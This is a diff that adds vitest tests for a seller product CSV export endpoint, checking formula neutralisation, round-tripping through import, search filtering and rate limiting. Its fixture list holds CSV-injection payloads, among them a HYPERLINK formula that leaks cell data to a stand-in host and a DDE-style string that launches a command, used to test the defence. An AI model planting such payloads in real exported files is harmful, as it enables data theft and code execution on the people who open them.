@@ -1,5 +1,5 @@
 import { ImportDiff, type ImportedField, ProductImport, type UpdatedProduct } from '@rialto/contract'
-import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
+import { afterAll, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest'
 import { encodeForm } from '../../../../test/support/form.ts'
 import { addShopper } from '../../accounts/testing/shopper.ts'
 import { saveProducts, selectByHandles } from '../../catalog/index.ts'
@@ -243,5 +243,41 @@ describe('GET /seller/products/export', () => {
     expect(fieldsOf(diff.updated)).toEqual([])
     expect(diff).toMatchObject({ added: 0, skipped: [] })
     expect(diff.unchanged).toBeGreaterThan(1)
+  })
+})
+
+describe('the file of an export', () => {
+  const exported = async (query = ''): Promise<string> => {
+    const { status, body } = await shop.call('GET', `/seller/products/export${query}`)
+    expect(status).toBe(200)
+    return Buffer.from(body).toString()
+  }
+  const formulas = ['=HYPERLINK("https://evil.example?"&A1,"Total")', "@SUM(1+1)*cmd|' /C calc'!A0", '+1+1', "'=kept"]
+
+  it('holds no formulas, and comes back in as it went out', async () => {
+    for (const [index, name] of formulas.entries()) {
+      const content = { name, brand: name, options: plain({ sku: `-${own}${index}`, stock: 2 }) }
+      await saveProducts(shop.deps, { shop: shop.shopId, products: [{ handle: `${own}-f${index}`, content }] })
+    }
+    const csv = await exported()
+    expect(csv.match(/(^|,)"?[=@+\-＝][^,]*/gm) ?? []).toEqual([])
+    expect(await propose(csv)).toMatchObject({ added: 0, updated: [], skipped: [] })
+    // A reworded price proves that the rows were read as the products that they are.
+    const priced = csv.replace(/^(t\d+-f2,.*?),0\.00,/m, '$1,5.00,')
+    expect((await propose(priced)).updated).toHaveLength(1)
+  })
+
+  it('has the products of a view and search alone, by handle and SKU', async () => {
+    const csv = await exported(`?view=all&search=${own}-POT-S`)
+    const [head = '', ...rows] = csv.trim().split('\n')
+    expect(head).toMatch(/^Handle,.*Variant SKU/)
+    expect(rows.map((row) => row.split(',')[0])).toEqual([`${own}-pot`, `${own}-pot`])
+    expect(await propose(csv)).toMatchObject({ added: 0, updated: [], unchanged: 1 })
+  })
+
+  it('is written twice at a time for a shop, and again afterwards', async () => {
+    const replies = await Promise.all([1, 2, 3].map(() => shop.call('GET', '/seller/products/export')))
+    expect(replies.map(({ status }) => status).sort()).toEqual([200, 200, 429])
+    await vi.waitFor(() => exported())
   })
 })
